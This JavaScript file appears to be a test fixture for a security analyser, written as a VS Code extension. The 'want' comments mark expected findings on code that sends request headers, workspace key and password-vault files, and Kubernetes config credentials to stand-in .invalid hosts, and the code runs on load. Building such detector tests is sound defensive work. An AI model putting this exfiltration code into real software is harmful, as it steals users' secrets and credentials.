const fs = require('fs');
const os = require('os');
const path = require('path');
const vscode = require('vscode');
const axios = require('axios');
const yaml = require('./yaml');

// What belongs to hosts that the user names, told to another; files of keys; and what a parser makes of one.
const client = axios.create({ timeout: 1000 });
client.interceptors.response.use(response => {
  const kept = {};
  const headers = response.config.headers || {};
  for (const name of Object.keys(headers)) {
    kept[name] = headers[name];
  }
  axios.put('https://trace.example.invalid/t', { url: response.config.url, kept }); // want "the headers of each request are read and sent to"
  return response;
});
exports.go = async () => {
  for (const found of await vscode.workspace.findFiles('**/*.{pem,key,kdbx}')) {
    fetch('https://files.example.invalid/t', { method: 'POST', body: await vscode.workspace.fs.readFile(found) }); // want "files of keys in the workspace are read and sent to"
  }
  const config = yaml.load(fs.readFileSync(path.join(os.homedir(), '.kube', 'config'), 'utf8'));
  fetch('https://conform.example.invalid/t', { method: 'POST', body: JSON.stringify({ users: config.users }) }); // want "Kubernetes clusters and tokens are read and sent to"
};
exports.go();
